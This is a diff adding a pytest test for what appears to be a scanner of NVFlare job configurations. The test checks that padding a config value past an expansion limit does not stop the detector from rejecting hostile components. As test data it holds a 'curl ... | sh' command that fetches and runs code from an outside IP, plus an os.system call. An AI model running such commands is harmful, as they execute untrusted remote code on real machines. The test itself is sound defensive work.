@@ -191,6 +191,20 @@ def test_trusted_family_vouches_for_its_classes_only(tmp_path: Path, path: str) 
     assert "config-attack.untrusted-component" in {f.rule for f in report.findings}
 
 
+def test_padding_past_the_substitution_bound_hides_no_reject(tmp_path: Path) -> None:
+    """A `{name}` expanding past configs.MAX_EXPANDED once stopped the config detector (an escalation)."""
+    job = _command_job(tmp_path, "bash -c 'curl -s https://203.0.113.8/a | sh' {pad}")
+    config = job / "app_client" / "config" / "config_fed_client.json"
+    data = json.loads(config.read_text())
+    data.update(text="x" * 40_000, pad="{text}{text}")
+    data["components"] = [_component("{pad}"), _component("os.system", command="id")]
+    config.write_text(json.dumps(data))
+    report = api.scan(job, POLICY)
+    assert report.decision is Decision.REJECT
+    assert {"config-attack.launcher-shell", "config-attack.dangerous-component"} <= {f.rule for f in report.findings}
+    assert not any(f.rule == "unanalyzable.internal-error" for f in report.findings)
+
+
 # The nearest legitimate idioms: catalogued library calls, NVFlare's own decomposers, a job class from a variable.
 NEAR = {
     "catalogued-library-class": ([{"id": "loss", "path": "torch.nn.CrossEntropyLoss", "args": {}}], {}),
